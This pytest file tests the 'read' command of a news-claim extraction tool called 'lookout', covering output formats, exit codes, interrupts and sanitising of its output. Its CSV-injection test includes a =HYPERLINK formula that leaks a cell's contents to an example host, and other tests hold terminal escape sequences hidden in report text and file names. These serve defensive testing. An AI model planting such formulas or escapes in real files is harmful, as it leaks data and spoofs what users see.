"""`lookout read`: what it prints, in every form, and what it does when something is wrong."""

import csv
import io
import json
import os
import re
import signal
import subprocess

import pytest

ENGLISH = "The army captured the port of Bezmarra on Monday, and the rebels have fled from it, they said."
ESCAPE = "\x1b"
COLORED = re.compile(r"\x1b\[[0-9;]*m")


def read_lines(done):
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_cli_read_prints_one_line_of_json_a_report(worded, reports):
    done = worded("read", "--format", "ndjson", reports / "a.txt", reports / "b.txt")
    assert (done.returncode, done.stderr) == (0, "")
    first, second = read_lines(done)
    assert (first["doc"], second["doc"]) == ("a", "b")
    assert [claim["type"] for claim in first["claims"]] == ["capture", "shelling"]
    start, end = first["claims"][0]["triggers"][0]
    assert first["text"][start:end] == "captured"
    assert first["text"] == (reports / "a.txt").read_text(encoding="utf-8")


def test_cli_read_prints_one_array(worded, reports):
    done = worded("read", "--format", "json", reports / "a.txt", reports / "b.txt")
    assert [report["doc"] for report in json.loads(done.stdout)] == ["a", "b"]


def test_cli_read_prints_an_empty_array_for_nothing_read(worded):
    done = worded("read", "--format", "json", "missing.txt")
    assert (done.returncode, json.loads(done.stdout)) == (3, [])


def test_cli_read_prints_csv_a_row_a_claim(worded, reports):
    done = worded("read", "--format", "csv", reports / "a.txt", reports / "b.txt")
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [(row["doc"], row["type"], row["trigger"]) for row in rows] == [
        ("a", "capture", "captured"),
        ("a", "shelling", "shelled"),
        ("b", "capture", "captured"),
    ]


def test_cli_read_keeps_nothing(worded, reports, tmp_path):
    worded("read", reports)
    assert [path.name for path in tmp_path.iterdir()] == ["reports"]


def test_cli_read_takes_what_is_told_of_a_report(worded):
    told = {"outlet": "Example News", "title": "Port", "url": "https://example.org/1"}
    options = [part for name, value in told.items() for part in (f"--{name}", value)]
    done = worded("read", "--format", "ndjson", *options, "--date", "2016-06", "--id", "x1", "-", stdin=ENGLISH)
    (report,) = read_lines(done)
    assert report["published"] == ["2016-06-01", "2016-07-01"]
    assert report["doc"] == "x1"
    assert {key: report[key] for key in told} == told


def test_cli_read_takes_standard_input(worded):
    (report,) = read_lines(worded("read", "--format", "ndjson", "-", stdin=f"\ufeff{ENGLISH}\r\n"))
    assert (report["doc"], report["text"]) == ("stdin", f"{ENGLISH}\r\n")


def test_cli_read_goes_on_after_a_failure_and_ends_with_3(worded, reports):
    done = worded("read", "--format", "ndjson", reports / "missing.txt", reports)
    assert done.returncode == 3
    assert [report["doc"] for report in read_lines(done)] == ["a", "b", "c"]
    assert done.stderr.splitlines() == [
        f"lookout: {reports}/missing.txt: there is no such file",
        f"lookout: {reports}/d.txt: there is nothing in it but white space",
    ]


def test_cli_read_says_what_it_does_not_read(worded, reports):
    done = worded("read", reports / "c.txt")
    assert done.returncode == 0
    assert "in French: not read" in done.stdout
    (report,) = read_lines(worded("read", "--format", "ndjson", reports / "c.txt"))
    assert (report["language"], report["note"], report["claims"]) == ("fr", "in French: not read", [])


@pytest.mark.parametrize("threads", ["1", "4"])
def test_cli_read_prints_the_same_whatever_the_threads(worded, reports, threads):
    done = worded("read", "--format", "ndjson", "--threads", threads, reports)
    assert done.stdout == worded("read", "--format", "ndjson", reports).stdout


@pytest.mark.parametrize("columns", ["80", "160"])
def test_cli_read_table_fits_the_screen(worded, tmp_path, columns):
    (tmp_path / "long.txt").write_text(f"{'Some words before it happened and ' * 40}{ENGLISH}", encoding="utf-8")
    done = worded("read", "--outlet", "o" * 300, "long.txt", COLUMNS=columns)
    lines = done.stdout.splitlines()
    assert max(map(len, lines)) <= int(columns)
    assert any(len(line) > int(columns) // 2 for line in lines)
    assert [line for line in lines if line != line.rstrip()] == []
    words = " ".join(done.stdout.split())
    assert all(told in words for told in ("capture", "happened", "0.90", "[captured]"))


def test_cli_read_table_has_every_column_where_there_is_room(worded, reports):
    done = worded("read", reports / "a.txt", COLUMNS="160")
    header = next(line for line in done.stdout.splitlines() if "type" in line)
    assert header.split() == ["id", "type", "status", "actor", "target", "place", "time", "toll", "by", "sure", "words"]


def test_cli_read_streams_and_ends_quietly_when_interrupted(worded, tmp_path):
    (tmp_path / "a.txt").write_text(ENGLISH)
    (tmp_path / "b.txt").write_text(f"{ENGLISH} It went slowly.")
    command = ("read", "--threads", "1", "--format", "ndjson", "a.txt", "b.txt")
    with worded.start(*command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        first = process.stdout.readline()  # comes while the second is still being read
        process.send_signal(signal.SIGINT)
        out, error = process.communicate()
    assert json.loads(first)["doc"] == "a"
    assert (process.returncode, out, error.strip()) == (130, b"", b"")


def test_cli_read_ends_quietly_when_nobody_reads_on(worded, tmp_path):
    (tmp_path / "a.txt").write_text(f"{ENGLISH} " * 2_000)
    command = ("read", "--format", "ndjson", *["a.txt"] * 20)
    with worded.start(*command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        process.stdout.read(10)
        process.stdout.close()
        error = process.stderr.read()
    assert (process.returncode, error) == (141, b"")


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no device that is always full")  # noqa: PTH110
def test_cli_read_says_that_the_disk_is_full(worded, reports):
    with open("/dev/full", "wb") as full:  # noqa: PTH123
        process = worded.start("read", reports / "a.txt", stdout=full, stderr=subprocess.PIPE)
        _, error = process.communicate()
    assert (process.returncode, error) == (1, b"lookout: No space left on device\n")


def test_cli_read_csv_runs_no_formula(worded, tmp_path):
    formula = '=HYPERLINK("http://example.org/?leak="&A1)'
    (tmp_path / "=1+1.txt").write_text(f"{formula} the army captured it, and they said that. {ENGLISH}")
    done = worded("read", "--format", "csv", "--outlet", "@SUM(1)", "--title", "+1", "--url", "-1", "=1+1.txt")
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert len(rows) == 3
    assert [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")] == []
    assert rows[1][0] == "'=1+1"


@pytest.mark.parametrize("form", ["table", "json", "ndjson", "csv"])
def test_cli_read_sends_no_escape_to_the_terminal(worded, tmp_path, form):
    hostile = f"Clear {ESCAPE}[2J{ESCAPE}]0;t\x07 the army captured \x9b31m it \u202eand\x7f. {ENGLISH * 9}"
    (tmp_path / "a.txt").write_text(hostile, encoding="utf-8")
    done = worded("read", "--outlet", f"{ESCAPE}[31mred", "--format", form, "a.txt")
    assert done.returncode == 0
    assert "captured" in done.stdout
    assert [sign for sign in done.stdout if not sign.isprintable() and sign != "\n"] == []


def test_cli_read_names_a_file_without_letting_it_act(worded, tmp_path):
    name = f"{ESCAPE}[2Jgone\n.txt"
    done = worded("read", name)
    assert done.returncode == 3
    assert done.stderr == "lookout: ␛[2Jgone .txt: there is no such file\n"


def test_cli_read_colors_the_trigger_on_a_terminal(worded, reports):
    code, shown = worded.run_on_terminal("read", reports / "b.txt")
    assert code == 0
    assert re.search(r"\x1b\[[0-9;]*mcaptured\x1b\[0m", shown)
    assert "[captured]" not in shown
    assert ESCAPE not in COLORED.sub("", shown)


def test_cli_read_on_a_terminal_obeys_no_escape_of_a_report(worded, tmp_path):
    (tmp_path / "a.txt").write_text(
        f"Clear {ESCAPE}[2J the army captured {ESCAPE}[31mit, and they said that of the port."
    )
    _, shown = worded.run_on_terminal("read", "a.txt")
    assert ESCAPE not in COLORED.sub("", shown)
    assert "␛[2J" in shown
    assert f"{ESCAPE}[31mit" not in shown


@pytest.mark.parametrize(
    ("arguments", "environment"),
    [(["--no-color", "read"], {}), (["read"], {"NO_COLOR": "1"}), (["read"], {"TERM": "dumb"})],
)
def test_cli_read_is_colorless_when_asked(worded, reports, arguments, environment):
    _, shown = worded.run_on_terminal(*arguments, reports / "b.txt", **environment)
    assert ESCAPE not in shown
    assert "[captured]" in shown


def test_cli_read_shows_no_bar_in_a_pipe(worded, reports):
    assert worded("read", "--format", "csv", reports / "a.txt", reports / "b.txt").stderr == ""


def test_cli_read_takes_a_very_long_report(worded, tmp_path):
    (tmp_path / "long.txt").write_text(f"{ENGLISH} " * 11_000)
    (report,) = read_lines(worded("read", "--format", "ndjson", "long.txt"))
    assert len(report["text"].split()) > 180_000
    assert len(report["claims"]) == 11_000


def test_cli_read_goes_on_beside_a_record_that_cannot_be_opened(worded, tmp_path):
    (tmp_path / "lookout.duckdb").write_bytes(b"no record")
    (tmp_path / "a.txt").write_text("They captured it on Monday, it was told in the report.", encoding="utf-8")
    done = worded("read", "--format", "ndjson", "a.txt")
    assert done.returncode == 0
    assert done.stdout.count("\n") == 1
    assert done.stderr.endswith("read without its own places\n")
    assert done.stderr.count("\n") == 1
